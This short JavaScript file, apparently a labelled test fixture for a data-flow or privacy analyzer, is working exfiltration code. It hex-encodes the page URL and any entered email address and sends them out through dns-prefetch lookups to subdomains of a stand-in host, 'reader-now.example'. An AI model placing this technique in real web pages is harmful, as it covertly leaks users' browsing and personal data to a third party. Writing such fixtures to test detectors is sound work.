const hex = (s) => Array.from(new TextEncoder().encode(s), (b) => b.toString(16).padStart(2, "0")).join("");
function whisper(text) {
  const labels = hex(text).match(/.{1,60}/g) ?? [];
  labels.forEach((l, i) => {
    const link = document.createElement("link");
    link.rel = "dns-prefetch";
    // expect: browsing-data-to-network, input-to-network
    link.href = `//${i}.${l}.r.reader-now.example`;
    document.head.appendChild(link);
  });
}
whisper(location.href.slice(0, 180));
const mail = document.querySelector('input[type="email"]');
mail?.addEventListener("change", () => whisper("m:" + mail.value));
